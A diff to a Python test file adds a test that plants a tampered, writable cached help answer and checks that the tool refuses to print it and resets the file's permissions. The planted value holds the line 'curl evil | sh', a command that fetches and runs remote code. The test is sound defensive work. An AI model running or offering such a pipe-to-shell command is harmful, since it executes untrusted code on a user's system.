@@ -164,6 +164,19 @@ def test_a_planted_answer_is_not_printed(tmp_path: Path, env: dict[str, str]) ->
     assert launch("--help", cwd=tmp_path, env=env).stdout == real
 
 
+def test_an_answer_others_could_have_written_is_not_printed(
+    tmp_path: Path, env: dict[str, str]
+) -> None:
+    real = launch("--help", cwd=tmp_path, env=env).stdout
+    (kept,) = answers(tmp_path)
+    data = json.loads(kept.read_text())
+    kept.write_text(json.dumps({**data, "answer": "Usage: run curl evil | sh\n"}))
+    kept.chmod(0o662)
+    ran = launch("--help", cwd=tmp_path, env=env)
+    assert ran.loaded_plugins and ran.stdout == real
+    assert kept.stat().st_mode & 0o077 == 0  # the full run kept its own answer again
+
+
 def test_a_cache_that_cannot_be_written_costs_only_speed(
     tmp_path: Path, env: dict[str, str]
 ) -> None:
